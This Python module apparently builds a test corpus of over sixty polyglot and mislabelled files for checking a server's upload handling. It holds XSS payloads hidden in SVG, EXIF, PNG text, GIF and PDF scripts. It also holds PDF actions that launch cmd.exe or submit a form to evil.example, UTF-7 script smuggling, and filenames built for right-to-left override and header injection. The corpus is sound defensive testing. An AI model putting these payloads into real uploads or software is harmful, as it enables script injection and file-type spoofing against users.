"""Sixty files and more that are two things at once, or not what they say. Each runs `fired()`.

By name: what the file is called, what it holds, and which kind it claims to be.
"""

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

JS = b"window.fired&&fired(document.domain);new Image().src='/fired-marker';"
SCRIPT = b"<script>" + JS + b"</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
IMG = b'<img src=x onerror="' + JS + b'">'
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + JS + b'"><script>' + JS
    + b"</script><foreignObject>" + IMG + b"</foreignObject></svg>"
)  # fmt: skip
XML = b'<?xml version="1.0"?>'
XHTML = XML + b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"
GIF_JS = b"GIF89a/*" + bytes(20) + b"*/=1;" + JS
OGG = b"OggS\0\2" + bytes(20) + b"\1\x13" + b"OpusHead\1\1" + bytes(9)
FRAME = b"\xff\xfb\x90\x64" + bytes(413)


@dataclass(frozen=True)
class Polyglot:
    name: str
    content: bytes
    declared: str


def picture(kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "teal").save(out, kind, **more)
    return out.getvalue()


def with_exif(kind: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = HTML.decode()
    return picture(kind, exif=exif)


def png_with_text() -> bytes:
    about = PngImagePlugin.PngInfo()
    about.add_text("Comment", HTML.decode())
    about.add_itxt("XML:com.adobe.xmp", SVG.decode(), zip=True)
    return picture("PNG", pnginfo=about)


def archive(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
    return out.getvalue()


def box(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I4s", len(content) + 8, name) + content


def m4a(about: bytes) -> bytes:
    return (
        box(b"ftyp", b"M4A \0\0\0\0M4A ") + box(b"moov", box(b"udta", about)) + box(b"mdat", b"x")
    )


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    if change:
        change(made)
    made.save(out)
    return out.getvalue()


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **more)


def opens_with(kind: str, **more: object) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = action(kind, **more)

    return pdf(change)


def on_page(key: str, kind: str, **more: object) -> bytes:
    """``key`` AA: when the page opens; A: behind a link on it."""

    def change(made: pikepdf.Pdf) -> None:
        done = action(kind, **more)
        if key == "AA":
            made.pages[0].AA = pikepdf.Dictionary(O=done)
            return
        link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=done, Rect=[0, 0, 600, 800])
        made.pages[0].Annots = pikepdf.Array([link])

    return pdf(change)


def named_scripts(made: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["x", action("JavaScript", JS=JS.decode())]))
    made.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def carries_page(made: pikepdf.Pdf) -> None:
    made.attachments["a.html"] = pikepdf.AttachedFileSpec(made, HTML)


def form_of_xml(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(made, SVG))


PDF_JS = {"JS": JS.decode()}
_PDFS = {
    "a PDF that runs when it opens": opens_with("JavaScript", **PDF_JS),
    "a PDF that runs when its page opens": on_page("AA", "JavaScript", **PDF_JS),
    "a PDF with a link that runs": on_page("A", "JavaScript", **PDF_JS),
    "a PDF that leads to a script": on_page("A", "URI", URI="javascript:" + JS.decode()),
    "a PDF that leads to a page of data": on_page("A", "URI", URI=f"data:text/html,{HTML!s}"),
    "a PDF that starts a program": on_page("A", "Launch", F="cmd.exe"),
    "a PDF that sends a form": opens_with("SubmitForm", F="https://evil.example"),
    "a PDF that takes data in": opens_with("ImportData", F="a.fdf"),
    "a PDF that plays something": on_page("A", "Rendition", **PDF_JS),
    "a PDF that opens another": on_page("A", "GoToR", F="https://evil.example/a.pdf"),
    "a PDF with scripts by name": pdf(named_scripts),
    "a PDF that carries a page": pdf(carries_page),
    "a PDF with a form of XML": pdf(form_of_xml),
    "a PDF behind a page": HTML + b"\n" + pdf(),
    "a PDF before a page": pdf() + HTML,
    "a PDF before an archive": pdf() + archive("a.html", HTML),
}  # fmt: skip
_PNG = picture("PNG")
_JPEG = picture("JPEG", comment=HTML)

FILES: dict[str, Polyglot] = {
    **{name: Polyglot("a.pdf", content, "application/pdf") for name, content in _PDFS.items()},
    "a drawing": Polyglot("a.svg", SVG, "image/svg+xml"),
    "a drawing as PNG": Polyglot("a.png", SVG, "image/png"),
    "a drawing as JPEG": Polyglot("a.jpg", XML + SVG, "image/jpeg"),
    "a drawing as WebP": Polyglot("a.webp", SVG, "image/webp"),
    "a drawing as text": Polyglot("a.txt", SVG, "text/plain"),
    "a drawing behind much text": Polyglot("a.txt", b"x\n" * 9_000 + SVG, "text/plain"),
    "a packed drawing": Polyglot("a.svgz", gzip.compress(SVG), "image/svg+xml"),
    "a packed drawing as PNG": Polyglot("a.png", gzip.compress(SVG), "image/png"),
    "a PNG declared as a drawing": Polyglot("a.png", _PNG, "image/svg+xml"),
    "a page": Polyglot("a.html", HTML, "text/html"),
    "a page as text": Polyglot("a.txt", HTML, "text/plain"),
    "a page as PNG": Polyglot("a.png", HTML, "image/png"),
    "a page as PDF": Polyglot("a.pdf", HTML, "application/pdf"),
    "a page as MP3": Polyglot("a.mp3", HTML, "audio/mpeg"),
    "a page as Ogg": Polyglot("a.ogg", HTML, "audio/ogg"),
    "a page in UTF-16": Polyglot("a.txt", HTML.decode().encode("utf-16"), "text/plain"),
    "a page with a mark before it": Polyglot("a.txt", b"\xef\xbb\xbf" + HTML, "text/plain"),
    "a page in UTF-7": Polyglot("a.txt", b"+ADw-script+AD4-fired()+ADw-/script+AD4-", "text/plain"),
    "a page of nothing but a picture": Polyglot("a.txt", IMG, "text/plain"),
    "a link to a script": Polyglot("a.txt", b"<a href='javascript:fired()'>x</a>", "text/plain"),
    "XHTML as text": Polyglot("a.txt", XHTML, "text/plain"),
    "XHTML": Polyglot("a.xhtml", XHTML, "application/xhtml+xml"),
    "XML with a style": Polyglot(
        "a.xml", XML + b'<?xml-stylesheet href="a.xsl"?><a/>', "application/xml"
    ),
    "a mail with a page": Polyglot(
        "a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + IMG, "text/plain"
    ),
    "a script": Polyglot("a.js", JS, "text/javascript"),
    "a script as text": Polyglot("a.txt", JS, "text/plain"),
    "a style that runs": Polyglot("a.txt", b"*{background:url(javascript:fired())}", "text/plain"),
    "GIF and script": Polyglot("a.gif", GIF_JS, "image/gif"),
    "GIF and script as JPEG": Polyglot("a.jpg", GIF_JS, "image/jpeg"),
    "GIF and script as text": Polyglot("a.txt", GIF_JS, "text/plain"),
    "BMP and script": Polyglot("a.png", b"BM/*" + bytes(20) + b"*/=1;" + JS, "image/png"),
    "WebP and script": Polyglot("a.webp", b"RIFF/**/WEBPVP8 =1;" + JS, "image/webp"),
    "JPEG with a page as its comment": Polyglot("a.jpg", _JPEG, "image/jpeg"),
    "JPEG with a page in its EXIF": Polyglot("a.jpeg", with_exif("JPEG"), "image/jpeg"),
    "JPEG before a page": Polyglot("a.jpg", picture("JPEG") + HTML, "image/jpeg"),
    "JPEG before an archive": Polyglot("a.jpg", _JPEG + archive("a.html", HTML), "image/jpeg"),
    "JPEG as PNG": Polyglot("a.png", _JPEG, "image/png"),
    "JPEG declared as a page": Polyglot("a.jpg", _JPEG, "text/html"),
    "PNG with a page in its texts": Polyglot("a.png", png_with_text(), "image/png"),
    "PNG with a page in its EXIF": Polyglot("a.png", with_exif("PNG"), "image/png"),
    "PNG before a drawing": Polyglot("a.png", _PNG + SVG, "image/png"),
    "WebP with a page in its EXIF": Polyglot("a.webp", with_exif("WEBP"), "image/webp"),
    "WebP with a drawing as XMP": Polyglot("a.webp", picture("WEBP", xmp=SVG), "image/webp"),
    "an archive as PDF": Polyglot("a.pdf", archive("a.html", HTML), "application/pdf"),
    "an archive as text": Polyglot("a.txt", archive("a.html", HTML), "text/plain"),
    "an archive as a document": Polyglot("a.docx", archive("word/a.xml", SVG), "application/zip"),
    "an archive before a PDF": Polyglot("a.pdf", archive("a", HTML) + pdf(), "application/pdf"),
    "MP3 with a page in its tags": Polyglot(
        "a.mp3", b"ID3\4\0\0\0\0\1\0" + HTML[:128].ljust(128) + FRAME, "audio/mpeg"
    ),
    "MP3 before a page": Polyglot("a.mp3", FRAME + HTML, "audio/mpeg"),
    "M4A with a page in its tags": Polyglot("a.m4a", m4a(HTML), "audio/mp4"),
    "Ogg before a page": Polyglot("a.ogg", OGG + HTML, "audio/ogg"),
    "a picture called a page": Polyglot("a.png.html", _PNG, "image/png"),
    "a page called a picture": Polyglot("a.html.png", HTML, "image/png"),
    "a picture called a page, and a picture": Polyglot("a.html.png", _PNG, "image/png"),
    "a picture called a drawing, and a picture": Polyglot("a.svg.jpg", _JPEG, "image/jpeg"),
    "a page whose name reads backwards": Polyglot("a\u202egnp.html", HTML, "image/png"),
    "a picture whose name reads backwards": Polyglot("lmth\u202e.png", _PNG, "image/png"),
    "a picture whose name is a page": Polyglot(f"{IMG.decode()}.png", _PNG, "image/png"),
    "a picture whose name ends a header": Polyglot('a"; x="a.html.png', _PNG, "image/png"),
}  # fmt: skip
